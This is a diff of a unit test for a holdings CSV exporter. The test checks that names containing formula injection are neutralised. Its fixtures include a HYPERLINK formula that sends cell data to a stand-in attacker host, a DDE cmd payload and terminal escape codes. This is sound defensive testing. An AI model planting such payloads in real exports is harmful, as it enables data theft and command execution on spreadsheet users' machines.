@@ -55,7 +55,7 @@ describe('renderHoldingsCsv', () => {
   it('neutralises formula injection and escape sequences in names', () => {
     const report = makeReport();
     report.holdings[0]!.name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
-    report.holdings[1]!.name = '@SUM(1+1)*cmd|\' /C calc\'!A0';
+    report.holdings[1]!.name = "@SUM(1+1)*cmd|' /C calc'!A0";
     report.holdings[2]!.name = '\x1b[31m-2+3\x1b[0m, "quoted"\nnext';
     const rows = parseCsv(renderHoldingsCsv(report));
     expect(rows.every((r) => r.length === 13)).toBe(true);
